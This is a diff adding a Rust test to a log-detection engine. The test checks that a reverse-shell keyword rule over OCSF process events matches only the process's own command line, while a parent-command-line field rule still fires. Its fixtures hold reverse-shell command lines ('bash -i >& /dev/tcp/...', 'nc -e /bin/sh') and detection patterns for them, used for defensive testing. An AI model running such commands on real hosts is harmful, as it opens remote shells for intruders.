@@ -432,3 +432,42 @@ fn findings_written_from_the_records_text_are_the_findings_built_from_values() {
     let n = rendered_as_built(&rules_engine.built.engine, &files, &config());
     assert_eq!(n, 3 + 2 + 3);
 }
+
+/// A keyword rule over Vigil's OCSF events sees the event's own strings, not its
+/// lineage context: a keyword only in `parent_process` or `ancestry` (at any depth) fires
+/// nothing, the same keyword in the process's own command line fires; a field rule on
+/// the parent's command line still reaches it.
+#[test]
+fn ocsf_keywords_leave_out_the_lineage_context_and_fields_reach_it() {
+    const KEYWORD: &str = "title: Reverse shell keyword\nid: 00000000-0000-0000-0000-000000000021\nlevel: high\nlogsource: {product: linux, category: process_creation}\ndetection:\n    keywords: ['/dev/tcp/']\n    condition: keywords\n";
+    const PARENT: &str = "title: Parent reverse shell\nid: 00000000-0000-0000-0000-000000000022\nlevel: high\nlogsource: {product: linux, category: process_creation}\ndetection:\n    selection:\n        ParentCommandLine|contains: '/dev/tcp/'\n    condition: selection\n";
+    let s = Scratch::new("ocsf-lineage");
+    s.write("rules/keyword.yml", KEYWORD.as_bytes());
+    s.write("rules/parent.yml", PARENT.as_bytes());
+    let launch = |cmd: &str, parent: &str, ancestor: &str| {
+        serde_json::json!({
+            "class_uid": 1007, "activity_id": 1, "time": 1_714_557_600_000i64,
+            "process": {"pid": 2, "cmd_line": cmd, "file": {"path": "/usr/bin/sh"},
+                "parent_process": {"pid": 1, "cmd_line": parent},
+                "ancestry": [{"pid": 1, "cmd_line": ancestor}]},
+        })
+    };
+    let lines = [
+        launch("ls", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "init"),
+        launch("ls", "bash", "nc -e /bin/sh; cat /dev/tcp/x"),
+        launch("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash", "init"),
+    ];
+    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
+    let f = s.write("agent.jsonl", text.as_bytes());
+    let (seen, report) = run(&[s.path("rules")], &[f], &config());
+    assert_eq!(report.records, 3);
+    let mut fired: Vec<(String, u64)> = seen.iter().map(|x| (x.rule.clone(), x.record)).collect();
+    fired.sort();
+    assert_eq!(
+        fired,
+        [
+            ("00000000-0000-0000-0000-000000000021".to_string(), 3),
+            ("00000000-0000-0000-0000-000000000022".to_string(), 1)
+        ]
+    );
+}
